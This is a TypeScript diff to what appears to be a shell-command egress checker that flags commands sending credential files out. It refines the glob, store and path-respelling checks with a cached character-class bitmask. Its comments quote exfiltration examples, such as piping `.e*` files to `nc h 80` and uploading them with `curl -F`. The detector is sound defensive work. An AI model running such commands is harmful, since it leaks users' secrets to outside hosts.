@@ -7,7 +7,7 @@
 import { compiledRegex } from '../policy/arg-rule.js';
 import { joinSegments, pathSegments } from '../policy/paths.js';
 import { CREDENTIAL_PATH } from './credential-paths.js';
-import { CONTENT_DUMPERS, FILE_LISTERS, namesWholeHome, REMOTE_STORES } from './egress-vocabulary.js';
+import { CONTENT_DUMPERS, FILE_LISTERS, namesWholeHome } from './egress-vocabulary.js';
 import {
   collectAssignments,
   commandName,
@@ -26,6 +26,8 @@ import {
   opaqueCommandWord,
   overLayered,
   ownCommandLines,
+  goesSomewhere,
+  isStore,
   placesHome,
   placesOf,
   quoteWords,
@@ -356,21 +358,20 @@ function plainLines(
         if (t !== '' && !inner.includes(t)) inner.push(t);
     }
     // `gh secret set X < .env`, `git add .env && git push`: the general reader's (round 25, shell-stores.ts).
-    const program = first.charCodeAt(0) === 47 /* / */ ? commandName(first) : first;
-    if ((program === 'git' || REMOTE_STORES.has(program)) && storesCredential(cmds, i, 0, program, cmds))
-      return undefined;
+    if (isStore(name) && storesCredential(cmds, i, 0, name, cmds)) return undefined;
     if (itself && (name !== first || showPiece(name) !== name)) itself = false;
     const find = name === 'find';
+    const classes = wordClasses(words);
     for (let j = 0; j < words.length; j++) {
       const w = words[j] as string;
       if (find && isExecFlag(w)) return undefined;
       // `cat .e* | nc h 80`: a glob that can match a credential file is the general reader's (round 25).
       if (
-        credentialWord(w, NO_VARS) !== undefined ||
+        (classes & EXPANDS && credentialWord(w, NO_VARS) !== undefined) ||
         (dirs.length > 0 && placedCredential(w, dirs) !== undefined)
       )
         return undefined;
-      if (!respelled && respells(w)) respelled = true;
+      if (!respelled && classes & SLASH && respells(w)) respelled = true;
     }
     for (const r of cmd.redirects) if (credentialWord(r.target, NO_VARS) !== undefined) return undefined;
   }
@@ -397,18 +398,23 @@ function credentialGlobs(
   // The directories gone to, asked only for a relative word (placedCredential).
   let dirs: readonly string[] | undefined;
   const placed = (w: string): string | undefined => {
-    dirs ??= placesOf(all)?.dirs ?? NO_DIRS;
+    // Only a text that goes somewhere has directories (most: none, told without the places' reading).
+    dirs ??= goesSomewhere(all) ? (placesOf(all)?.dirs ?? NO_DIRS) : NO_DIRS;
     if (dirs.length === 0) return undefined;
     return placedCredential(w, dirs);
   };
   cmds.forEach((c, i) => {
     let words: string[] | undefined;
     let shown: string[] | undefined;
+    const expands = (wordClasses(c.words) & EXPANDS) !== 0;
     c.words.forEach((w, j) => {
       // `curl -F "f=@$(ls .e*)"`: what the substitution lists, where it stands (after the word's printed part).
       // (A command word's listing runs a file, sends none: not looked at.)
       const listed = j === 0 ? undefined : substitutedCredential(c.shown[j] as string, vars, all);
-      const cred = credentialWord(w, vars) ?? (listed === undefined ? undefined : w + listed) ?? placed(w);
+      const cred =
+        (expands ? credentialWord(w, vars) : undefined) ??
+        (listed === undefined ? undefined : w + listed) ??
+        placed(w);
       if (cred === undefined) return;
       words ??= [...c.words];
       shown ??= [...c.shown];
@@ -428,6 +434,32 @@ function credentialGlobs(
   });
   return out;
 }
+
+/**
+ * The classes of character a command's words hold (SLASH, PATTERN `*?[`, BRACE `{`), read once per word
+ * list (a parse's lists are never written) for every reader of the parse: most commands hold none.
+ */
+function wordClasses(words: readonly string[]): number {
+  let known = WORD_CLASSES.get(words);
+  if (known === undefined) {
+    known = 0;
+    for (const w of words)
+      for (let i = 0; i < w.length; i++) {
+        const c = w.charCodeAt(i);
+        if (c === 47) known |= SLASH;
+        else if (c === 42 || c === 63 || c === 91) known |= PATTERN;
+        else if (c === 123) known |= BRACE;
+      }
+    WORD_CLASSES.set(words, known);
+  }
+  return known;
+}
+const WORD_CLASSES = new WeakMap<readonly string[], number>();
+const SLASH = 1;
+const PATTERN = 2;
+const BRACE = 4;
+/** A word the shell may expand into a credential file's name: a pattern or a brace. */
+const EXPANDS = PATTERN | BRACE;
 
 /** 0: `w` holds no `*`, `?`, `[` or `{`; 1: a pattern character; 2: a brace only. */
 function patternOrBrace(w: string): 0 | 1 | 2 {
@@ -543,7 +575,9 @@ function readList(
   // Each layer as written, then with its path words spelled canonically (`//etc/./x`, `/proc/self/root/etc/x`).
   // The second spelling only when some path word spells differently (most commands: none).
   const respelled = cmds.some(
-    (cmd) => cmd.words.some(respells) || cmd.redirects.some((r) => canonicalSpelling(r.target) !== r.target),
+    (cmd) =>
+      (wordClasses(cmd.words) & SLASH && cmd.words.some(respells)) ||
+      cmd.redirects.some((r) => canonicalSpelling(r.target) !== r.target),
   );
   for (const paths of respelled ? BOTH : ONCE) {
     for (let k = 0; k < layers; k++) add(st, listLine(cmds, starts, k, paths, st.vars));
